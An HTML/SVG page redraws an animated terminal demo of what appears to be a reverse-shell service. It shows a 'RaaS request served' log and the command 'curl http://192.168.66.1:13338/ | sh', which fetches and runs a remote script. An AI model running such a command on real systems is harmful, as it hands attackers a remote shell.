
These frames come from a looping animation (1135x493 px, 8 s). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #1e1e1e; }
svg { display: block; width: 1135px; height: 493px; text-rendering: geometricPrecision; }
text { white-space: pre; }

.log { font: 14px "Noto Sans Mono", monospace; fill: #2472c8; }
.shell { font: 17.17px "DejaVu Sans Mono", monospace; fill: #f4f4f4; }
.ui { font: 12.55px "Noto Sans", "Open Sans", sans-serif; fill: #111; }
.small { font-size: 10.7px; }
.body { font-size: 11.8px; }
.mid { text-anchor: middle; }
.line { fill: none; stroke: currentColor; }

/* Every change is a hard cut: 1% = 80 ms */
.k { animation: 8s step-end infinite; }

.window { animation-name: window; }
@keyframes window { 0% { opacity: 1 } 43.75%, 100% { opacity: 0 } }

.bar { animation-name: bar; }
@keyframes bar { 0% { fill: #fff } 8.25% { fill: #0078d7 } 30.125%, 100% { fill: #fff } }
.edge { fill: none; animation-name: edge; }
@keyframes edge { 0% { stroke: #6a6a6a } 8.25% { stroke: #0078d7 } 30.125%, 100% { stroke: #6a6a6a } }
.ink { animation-name: ink; }
@keyframes ink { 0% { color: #999 } 8.25% { color: #fff } 30.125%, 100% { color: #999 } }
.ink text { fill: currentColor; }
.cross { animation-name: cross; }
@keyframes cross { 0% { color: #888 } 8.25% { color: #fff } 35.5%, 100% { color: #888 } }
.hot { fill: #e81123; animation-name: hot; }
@keyframes hot {
  0% { opacity: 0 } 24.625% { opacity: .7 } 27.375% { opacity: 1 } 35.5%, 100% { opacity: 0 }
}

.plain { animation-name: plain; }
@keyframes plain { 0% { opacity: 1 } 8.25%, 100% { opacity: 0 } }
.bold { font-weight: 700; font-size: 12.85px; animation-name: bold; }
@keyframes bold { 0% { opacity: 0 } 8.25%, 100% { opacity: 1 } }

.before { animation-name: before; }
@keyframes before { 0% { opacity: 1 } 13.75%, 100% { opacity: 0 } }
.after { animation-name: after; }
@keyframes after { 0% { opacity: 0 } 13.75%, 100% { opacity: 1 } }
.block { animation-name: block; }
@keyframes block {
  0% { transform: translate(514px, 221.5px); fill: #000; stroke: #00a800 }
  8.25% { transform: translate(514px, 221.5px); fill: #0f0; stroke: #0f0 }
  13.75% { transform: translate(141.5px, 327.5px); fill: #0f0; stroke: #0f0 }
  30.125%, 100% { transform: translate(141.5px, 327.5px); fill: #000; stroke: #00a800 }
}
.up { animation-name: up; }
@keyframes up { 0% { fill: #909090 } 13.75% { fill: #2b7cd3 } 16.5%, 100% { fill: #909090 } }
.down { animation-name: down; }
@keyframes down { 0% { fill: #909090 } 13.75% { fill: #2b7cd3 } 32.875%, 100% { fill: #909090 } }

.dialog { filter: drop-shadow(0 2px 5px rgba(0, 0, 0, .4)); animation-name: dialog; }
@keyframes dialog { 0% { opacity: 0 } 30.125% { opacity: 1 } 43.75%, 100% { opacity: 0 } }
.ok { stroke: #0078d7; animation-name: ok; }
@keyframes ok { 0% { fill: #e1e1e1 } 41%, 100% { fill: #e5f1fb } }

.served { animation-name: served; }
@keyframes served { 0% { opacity: 0 } 16.5%, 100% { opacity: 1 } }
.fired { animation-name: fired; }
.fired text { fill: #0dbc79; }
@keyframes fired { 0% { opacity: 0 } 76.5%, 100% { opacity: 1 } }
.prompt { animation-name: prompt; }
@keyframes prompt {
  0% { transform: none } 16.5% { transform: translateY(55.5px) }
  76.5%, 100% { transform: translateY(74px) }
}
.mark { animation-name: mark; }
@keyframes mark { 0% { fill: #2b95dc } 76.5%, 100% { fill: #18b89c } }
.caret { stroke: #ccc; animation-name: caret; }
@keyframes caret {
  0% { transform: none; fill: #1e1e1e } 43.75% { transform: none; fill: #ccc }
  87.375% { transform: translateX(8.4px); fill: #ccc }
  90.125%, 100% { transform: translateX(42px); fill: #ccc }
}
.typed { fill: #e0e0e0; }
.key1 { animation-name: key1; }
@keyframes key1 { 0% { opacity: 0 } 87.375%, 100% { opacity: 1 } }
.key2 { animation-name: key2; }
@keyframes key2 { 0% { opacity: 0 } 90.125%, 100% { opacity: 1 } }

.beam { animation-name: beam; }
@keyframes beam {
  0% { opacity: 0; transform: none }
  4% { opacity: 1; transform: translate(819.5px, 380.5px) }
  5.5% { opacity: 1; transform: translate(773.5px, 350.5px) }
  8.25% { opacity: 1; transform: translate(765px, 343.5px) }
  24.625% { opacity: 0; transform: none }
  43.75% { opacity: 1; transform: translate(583px, 344.5px) }
  49.125% { opacity: 1; transform: translate(578px, 304px) }
  51.875% { opacity: 1; transform: translate(561px, 262.5px) }
  54.625% { opacity: 0; transform: translate(561px, 262.5px) }
  57.375%, 100% { opacity: 1; transform: translate(561px, 262.5px) }
}
.arrow { animation-name: arrow; }
@keyframes arrow {
  0% { opacity: 0; transform: none }
  24.625% { opacity: 1; transform: translate(936px, 163px) }
  27.375% { opacity: 1; transform: translate(939px, 152px) }
  32.875% { opacity: 1; transform: translate(944px, 155px) }
  35.5% { opacity: 1; transform: translate(636px, 269px) }
  38.25% { opacity: 1; transform: translate(589px, 327px) }
  41% { opacity: 1; transform: translate(582px, 343px) }
  43.75%, 100% { opacity: 0; transform: none }
}
.busy { animation-name: busy; }
@keyframes busy { 0% { opacity: 0 } 54.625% { opacity: 1 } 57.375%, 100% { opacity: 0 } }
</style>
</head>
<body>
<svg viewBox="0 0 1135 493">
  <rect width="1135" height="493" fill="#1e1e1e"/>

  <!-- Log -->
  <g class="log">
    <g class="k served">
      <text x="13.2" y="23">2021/04/20 15:17:11 A new income connection from 192.168.66.1:39051</text>
      <text x="13.2" y="41.5">2021/04/20 15:17:11 A RaaS request from 192.168.66.1:39051 served</text>
      <text x="13.2" y="60">2021/04/20 15:17:11 A new income connection from 192.168.66.1:39052</text>
    </g>
    <g class="k fired">
      <text x="13.2" y="78.5">2021/04/20 15:17:16 Fire in the hole: [a2ed0e62aeddf01e71a0433a0d81a668] tcp://192.168.66.1:39052 [  ]</text>
      <text x="852" y="78.5">]</text>
      <text x="843.5" y="78.5" font-family="DejaVu Sans, sans-serif">&#xFFFD;</text>
    </g>
    <g class="k prompt">
      <text class="k mark" x="13.2" y="23">»</text>
      <rect class="k caret" x="30.5" y="9.5" width="7" height="17"/>
      <text class="k typed key1" x="30" y="23">J</text>
      <text class="k typed key2" x="38.4" y="23">ump</text>
    </g>
  </g>

  <!-- Terminal window -->
  <g class="k window ui">
    <rect class="k bar" x="97" y="139" width="878" height="32"/>
    <rect class="k edge" x="97.5" y="139.5" width="877" height="285"/>
    <rect class="k hot" x="924" y="139.5" width="50.5" height="31"/>
    <circle cx="113.5" cy="154.5" r="7.5" fill="#d9542c"/>
    <g class="k ink">
      <text x="124" y="160">Ubuntu Desktop x64 20.04.1 - orlanis@ubuntu:~ - Zuvell 7 (Free for Home/School)</text>
      <path class="line" d="M843 154.5h11M893.5 149.5h10v10h-10z"/>
    </g>
    <path class="k cross line" d="M943.5 149.5l10.5 10.5m0-10.5l-10.5 10.5"/>

    <rect x="98" y="170.5" width="876" height="47.5" fill="#e6e6e6"/>
    <path d="M100.5 173v22" stroke="#c4c4c4"/>
    <text x="107.8" y="188.5">File</text>
    <text x="136.3" y="188.5">Edit</text>
    <text x="167" y="188.5">View</text>
    <text x="203" y="188.5">Tools</text>
    <text x="242" y="188.5">Tab</text>
    <text x="271" y="188.5">Window</text>
    <text x="326.3" y="188.5">Help</text>

    <path d="M98 197h219v20h657v2H98z" fill="#0086e0"/>
    <circle cx="106" cy="208.5" r="3.7" fill="#00b81c"/>
    <g fill="#fff">
      <text class="k plain" x="114" y="213"><tspan text-decoration="underline">1</tspan> Ubuntu Desktop x64 20.04.1</text>
      <text class="k bold" x="114" y="213"><tspan text-decoration="underline">1</tspan> Ubuntu Desktop x64 20.0...</text>
    </g>
    <path d="M304.5 204.5l5 5m0-5l-5 5" stroke="#cfe8fb"/>
    <rect x="317.5" y="197.5" width="16" height="19" fill="#f6f6f6" stroke="#bcbcbc"/>
    <path d="M322 207.5h7m-3.5-3.5v7" stroke="#444"/>
    <path d="M936.5 203.5v7l-4-3.5zM946 203.5v7l4-3.5z" fill="#b4b4b4"/>
    <path d="M963 205.5h6l-3 3.5z"/>

    <rect x="98" y="219" width="858" height="185" fill="#000"/>
    <rect class="k block" x=".5" y=".5" width="9.5" height="20"/>
    <g class="shell">
      <text x="100.4" y="238">~ » curl http://192.168.66.1:13338/ | sh</text>
      <g class="k after">
        <text x="100.4" y="259.2">  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current</text>
        <text x="100.4" y="280.4">                                 Dload  Upload   Total   Spent    Left  Speed</text>
        <text x="100.4" y="301.6">100    90  100    90    0     0  11250      0 --:--:-- --:--:-- --:--:-- 11250</text>
        <text x="100.4" y="322.8">/usr/bin/nohup: redirecting stderr to stdout</text>
        <text x="100.4" y="344">~ »</text>
      </g>
    </g>

    <rect x="956" y="219" width="18" height="185" fill="#f0f0f0"/>
    <rect x="956" y="367" width="18" height="18" fill="#cdcdcd"/>
    <path d="M961.5 231l3.5-3.5 3.5 3.5M961.5 393l3.5 3.5 3.5-3.5" fill="none" stroke="#444" stroke-width="1.5"/>

    <rect x="98" y="404" width="876" height="20" fill="#dfe1e0"/>
    <g class="small">
      <text x="100" y="419.5">ssh://orlanis@192.168.88.129:22</text>
      <rect x="550.5" y="410" width="8" height="8" fill="#dcb06a"/>
      <rect x="552.5" y="411" width="4" height="2" fill="#f4e6c8"/>
      <text x="561.5" y="419.5">SSH2</text>
      <text x="619.5" y="419.5">xterm</text>
      <path d="M669.5 411v7m-2-5l2-2 2 2M670 411.5h5m-2-1.5l2 1.5-2 1.5" fill="none" stroke="#555"/>
      <text x="678.5" y="419.5">82x8</text>
      <path d="M728 410.5h3m-3 2h3m-3 2h3m-3 3h3m2 0h3M732.5 410v6" stroke="#555"/>
      <text class="k before" x="739.5" y="419.5">1,41</text>
      <text class="k after" x="739.5" y="419.5">6,5</text>
      <text x="796.5" y="419.5">1 session</text>
      <path class="k up" d="M869 410l4 4h-2.7v4h-2.6v-4H865z"/>
      <path class="k down" d="M885 418l4-4h-2.7v-4h-2.6v4H881z"/>
      <g fill="#999" font-size="11.2">
        <text x="901" y="419.5">CAP</text>
        <text x="927.5" y="419.5">NUM</text>
      </g>
    </g>
    <path d="M970 413v9M966.5 417v5M963 420.5v1.5" stroke="#a8a8a8" stroke-width="2" stroke-dasharray="2 1.5"/>
  </g>

  <!-- Confirm dialog -->
  <g class="k dialog ui">
    <rect x="341.5" y="184.5" width="389" height="195" fill="#fff" stroke="#0078d7"/>
    <rect x="341" y="184" width="390" height="32" fill="#0078d7"/>
    <rect x="342" y="325" width="388" height="54" fill="#f0f0f0"/>
    <text x="348" y="205" fill="#fff">Zuvell</text>
    <path d="M708 195l10 10m0-10l-10 10" stroke="#fff"/>
    <circle cx="384" cy="262" r="15.5" fill="#0067c0" stroke="#003e7e"/>
    <text class="mid" x="384" y="270.5" fill="#fff" font-size="24">?</text>
    <g class="body">
      <text x="410.5" y="258.5">Zuvell is connected to Ubuntu Desktop x64 20.04.1</text>
      <text x="410.5" y="275.5">(192.168.88.129:22).</text>
      <text x="410.5" y="292">Do you want to disconnect and exit?</text>
      <rect class="k ok" x="523.5" y="336.5" width="87" height="28"/>
      <rect x="619.5" y="336.5" width="88" height="28" fill="#e1e1e1" stroke="#adadad"/>
      <text class="mid" x="566.5" y="355.5">OK</text>
      <text class="mid" x="663" y="355.5">Cancel</text>
    </g>
  </g>

  <!-- Pointers -->
  <path class="k beam" d="M-5.5-9h4q1.5 0 1.5 1.5q0-1.5 1.5-1.5h4M0-8V8M-5.5 9h4q1.5 0 1.5-1.5q0 1.5 1.5 1.5h4" fill="none" stroke="#f4f4f4" stroke-width="1.6"/>
  <path class="k arrow" d="M.5.5v16.5l3.8-3.6 2.6 6.2 2.8-1.2-2.6-6h5z" fill="#fff" stroke="#111"/>
  <circle class="k busy" cx="558.5" cy="261" r="10.5" fill="none" stroke="#3a9fe0" stroke-width="5"/>
</svg>
</body>
</html>
```
